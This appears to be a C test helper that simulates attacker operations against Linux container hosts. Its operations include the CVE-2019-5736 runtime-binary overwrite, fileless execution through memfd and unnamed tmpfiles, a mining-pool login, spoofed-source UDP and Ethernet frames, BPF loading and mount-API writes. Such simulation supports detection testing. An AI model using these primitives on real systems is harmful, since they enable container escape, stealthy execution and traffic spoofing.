// Operations of attackers and ordinary servers that a shell script cannot carry out:
// `scenario-ops <operation> [word…]`, one operation per call. Prints `landed`, or `<step>: <errno>`
// for the failed step.
//
// overwrite <fd>		writes the file of a read-only descriptor as soon as no process executes it (CVE-2019-5736)
// catch <ready> <go>		prints `ready`; when <ready> exists, opens /proc/<pid in it>/exe, creates <go>, overwrites the opened file
// fsopen <path> <text>		writes below the root of a new, unattached proc, by fsopen, fsconfig and fsmount
// clone <dir> <path> <text>	writes below a clone of one mount, without the mounts that cover parts of it
// attach <dir> <on>		attaches such a clone
// memfd <program> [word…]	copies a program to memory and runs it; mapped <program>: maps it executable from there
// tmpfile <program>		the same from a file that never had a name, on /dev/shm
// pool <address> <port>	sends the first message of miners to a mining pool
// owner <pid>			makes the process the owner of a socket that sends SIGKILL, and writes to it
// bpf				loads a program that watches every fork of the host
// alg				a socket of the kernel's crypto with the template of CVE-2026-31431
// forge <from> <to> <port>	sends a UDP packet with a made-up source address through a raw socket; prints its cookie first
// transparent <from> <to> <port>	the same through a plain UDP socket with IP_TRANSPARENT; freebind: of IPv6, with IPV6_FREEBIND
// frame <interface>		sends an Ethernet frame of another's address; prints the cookie of its packet socket first
// serve <port> <file>		an ordinary server: log, worker with another user, file sent to each client; ends after one
// crash			ends by SIGSEGV
// token <file>			reads the file, as a pod's own program does
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_alg.h>
#include <linux/if_packet.h>
#include <linux/mount.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "steps.h"

#define WAIT_STEPS   2000
#define WAIT_STEP_US 5000

static int overwrite(int fd)
{
	char path[64];
	int out = -1;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (int i = 0; i < WAIT_STEPS; i++) {
		out = open(path, O_WRONLY | O_TRUNC);
		if (out >= 0 || errno != ETXTBSY) break;
		usleep(WAIT_STEP_US);
	}
	must(out, "open the runtime for writing");
	must(write(out, "owned\n", 6), "write the runtime");
	return landed();
}

static int catch (const char *ready, const char *go)
{
	char text[64] = "", path[64];
	int fd = -1;

	puts("ready");
	fflush(stdout);
	for (int i = 0; i < WAIT_STEPS && !atoi(text); i++) {
		fd = open(ready, O_RDONLY);
		if (fd >= 0 && read(fd, text, sizeof text - 1) < 0) exit(1);
		if (fd >= 0) close(fd);
		usleep(WAIT_STEP_US);
	}
	snprintf(path, sizeof path, "/proc/%d/exe", atoi(text));
	fd = must(open(path, O_RDONLY), "open the program of the runtime");
	must(open(go, O_WRONLY | O_CREAT, 0644), "go");
	return overwrite(fd);
}

static int write_below(int dir, const char *path, const char *text)
{
	int fd = must(openat(dir, path, O_WRONLY), "open");

	must(write(fd, text, strlen(text)), "write");
	return landed();
}

static int fresh_proc(const char *path, const char *text)
{
	int context = must(syscall(SYS_fsopen, "proc", 0), "fsopen");

	must(syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0), "fsconfig");
	return write_below(must(syscall(SYS_fsmount, context, 0, 0), "fsmount"), path, text);
}

static int clone_of(const char *dir)
{
	return must(syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE), "open_tree");
}

static int attach(const char *dir, const char *on)
{
	must(syscall(SYS_move_mount, clone_of(dir), "", AT_FDCWD, on, MOVE_MOUNT_F_EMPTY_PATH),
	     "move_mount");
	return landed();
}

static int copy_to(int to, const char *program)
{
	int from = must(open(program, O_RDONLY | O_CLOEXEC), "open the program");
	struct stat about;

	fstat(from, &about);
	must(sendfile(to, from, NULL, about.st_size), "copy the program");
	close(from);
	return to;
}

static int run_fd(int fd, char **words)
{
	fexecve(fd, words, environ);
	return must(-1, "run");
}

static int run_tmpfile(char **words)
{
	char path[64];
	int fd = copy_to(must(open("/dev/shm", O_TMPFILE | O_RDWR, 0700), "tmpfile"), words[0]);

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int reading = must(open(path, O_RDONLY), "open again");
	close(fd); // a file that is open for writing cannot be executed
	return run_fd(reading, words);
}

static int map_memory(const char *program)
{
	int fd = copy_to(must(memfd_create("libc.so", 0), "memfd"), program);

	if (mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		must(-1, "map");
	return landed();
}

static struct sockaddr_in to_address(const char *text, const char *port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };

	inet_pton(AF_INET, text, &to.sin_addr);
	return to;
}

static int pool(const char *address, const char *port)
{
	static const char login[] = "{\"method\":\"mining.subscribe\"}\n";
	struct sockaddr_in to = to_address(address, port);
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");

	must(connect(fd, (void *)&to, sizeof to), "connect");
	must(write(fd, login, sizeof login - 1), "login");
	return landed();
}

static int signal_owner(pid_t pid)
{
	int ends[2];

	must(socketpair(AF_UNIX, SOCK_STREAM, 0, ends), "socketpair");
	must(fcntl(ends[0], F_SETOWN, pid), "owner");
	must(fcntl(ends[0], F_SETSIG, SIGKILL), "signal");
	must(fcntl(ends[0], F_SETFL, O_ASYNC), "async");
	must(write(ends[1], "x", 1), "write");
	return landed();
}

static int load_bpf(void)
{
	static const struct bpf_insn code[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT,
		.insns = (unsigned long)code,
		.insn_cnt = 2,
		.license = (unsigned long)"GPL",
	};
	int program = must(syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr), "load");
	union bpf_attr link = { .raw_tracepoint = { .name = (unsigned long)"sched_process_fork",
						    .prog_fd = program } };

	must(syscall(SYS_bpf, BPF_RAW_TRACEPOINT_OPEN, &link, sizeof link), "attach");
	return landed();
}

static int use_alg(void)
{
	struct sockaddr_alg name = { .salg_family = AF_ALG,
				     .salg_type = "hash",
				     .salg_name = "sha256" };
	int fd = must(socket(AF_ALG, SOCK_SEQPACKET, 0), "socket");

	must(bind(fd, (void *)&name, sizeof name), "bind");
	return landed();
}

static void tell_cookie(int fd)
{
	unsigned long long cookie;
	socklen_t length = sizeof cookie;

	must(getsockopt(fd, SOL_SOCKET, SO_COOKIE, &cookie, &length), "cookie");
	printf("%d %llu\n", getpid(), cookie);
}

static int forge(const char *from, const char *to_text, const char *port)
{
	struct sockaddr_in to = to_address(to_text, port), source = to_address(from, port);
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char text[8];
	} packet = {
		.ip = { .version = 4,
			.ihl = 5,
			.ttl = 64,
			.protocol = IPPROTO_UDP,
			.tot_len = htons(sizeof packet) },
		.udp = { .source = to.sin_port,
			 .dest = to.sin_port,
			 .len = htons(sizeof packet.udp + sizeof packet.text) },
		.text = "forged",
	};
	int fd = must(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), "socket");

	tell_cookie(fd);
	packet.ip.saddr = source.sin_addr.s_addr;
	packet.ip.daddr = to.sin_addr.s_addr;
	must(sendto(fd, &packet, sizeof packet, 0, (void *)&to, sizeof to), "send");
	return landed();
}

// The source port is the destination port.
static int send_from(const char *step, int fd, int level, int option, void *source, void *to,
		     socklen_t length)
{
	int one = 1;

	must(setsockopt(fd, level, option, &one, sizeof one), step);
	must(bind(fd, source, length), "bind");
	must(sendto(fd, "forged", 6, 0, to, length), "send");
	return landed();
}

static int transparent(const char *from, const char *to_text, const char *port)
{
	struct sockaddr_in source = to_address(from, port), to = to_address(to_text, port);

	return send_from("transparent", must(socket(AF_INET, SOCK_DGRAM, 0), "socket"), IPPROTO_IP,
			 IP_TRANSPARENT, &source, &to, sizeof to);
}

static int freebind(const char *from, const char *to_text, const char *port)
{
	struct sockaddr_in6 source = { .sin6_family = AF_INET6, .sin6_port = htons(atoi(port)) },
			    to = source;

	inet_pton(AF_INET6, from, &source.sin6_addr);
	inet_pton(AF_INET6, to_text, &to.sin6_addr);
	return send_from("freebind", must(socket(AF_INET6, SOCK_DGRAM, 0), "socket"), IPPROTO_IPV6,
			 IPV6_FREEBIND, &source, &to, sizeof to);
}

static int send_frame(const char *interface)
{
	static const char frame[60] = { 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 0x66, 8, 0, 0x45 };
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_ifindex = if_nametoindex(interface),
				  .sll_halen = 6 };
	int fd = must(socket(AF_PACKET, SOCK_RAW, htons(3)), "socket");

	tell_cookie(fd);
	must(sendto(fd, frame, sizeof frame, 0, (void *)&to, sizeof to), "send");
	return landed();
}

static int work(int listener, const char *file)
{
	int log = must(open("/tmp/access.log", O_WRONLY | O_CREAT | O_APPEND, 0644), "log"), client,
	    from;
	struct stat about;
	char request[1024];

	must(fchown(log, 33, 33), "owner of the log");
	must(setgid(33), "group");
	must(setuid(33), "user");
	client = must(accept(listener, NULL, NULL), "accept");
	must(read(client, request, sizeof request), "request");
	from = must(open(file, O_RDONLY), "file");
	fstat(from, &about);
	must(write(client, "HTTP/1.0 200 OK\r\n\r\n", 19), "answer");
	must(sendfile(client, from, NULL, about.st_size), "answer");
	must(write(log, "200\n", 4), "log");
	return 0;
}

static int serve(const char *port, const char *file)
{
	struct sockaddr_in own = to_address("0.0.0.0", port);
	int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket"), one = 1, status;
	pid_t worker;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	must(bind(fd, (void *)&own, sizeof own), "bind");
	must(listen(fd, 8), "listen");
	puts("ready");
	fflush(stdout);
	worker = must(fork(), "fork");
	if (worker == 0) exit(work(fd, file));
	must(waitpid(worker, &status, 0), "wait");
	return status ? 1 : landed();
}

static int read_token(const char *path)
{
	char text[64] = "";

	must(read(must(open(path, O_RDONLY), "open"), text, sizeof text - 1), "read");
	puts(text);
	return landed();
}

// The kernel ignores a signal that the first process of a PID namespace sends itself.
static int crash(void)
{
	static volatile int *volatile nowhere;

	return *nowhere;
}

static int is(const char *word, const char *text) { return strcmp(word, text) == 0; }

int main(int argc, char **argv)
{
	char *words[8] = { "quick" };

	for (int i = 1; i < argc && i < 8; i++)
		words[i - 1] = argv[i];
	if (is(words[0], "quick")) return landed();
	if (is(words[0], "overwrite")) return overwrite(atoi(words[1]));
	if (is(words[0], "catch")) return catch (words[1], words[2]);
	if (is(words[0], "fsopen")) return fresh_proc(words[1], words[2]);
	if (is(words[0], "clone")) return write_below(clone_of(words[1]), words[2], words[3]);
	if (is(words[0], "attach")) return attach(words[1], words[2]);
	if (is(words[0], "memfd"))
		return run_fd(copy_to(must(memfd_create("x", MFD_CLOEXEC), "memfd"), words[1]),
			      words + 1);
	if (is(words[0], "tmpfile")) return run_tmpfile(words + 1);
	if (is(words[0], "mapped")) return map_memory(words[1]);
	if (is(words[0], "pool")) return pool(words[1], words[2]);
	if (is(words[0], "owner")) return signal_owner(atoi(words[1]));
	if (is(words[0], "bpf")) return load_bpf();
	if (is(words[0], "alg")) return use_alg();
	if (is(words[0], "forge")) return forge(words[1], words[2], words[3]);
	if (is(words[0], "transparent")) return transparent(words[1], words[2], words[3]);
	if (is(words[0], "freebind")) return freebind(words[1], words[2], words[3]);
	if (is(words[0], "frame")) return send_frame(words[1]);
	if (is(words[0], "serve")) return serve(words[1], words[2]);
	if (is(words[0], "crash")) return crash();
	if (is(words[0], "token")) return read_token(words[1]);
	return 2;
}
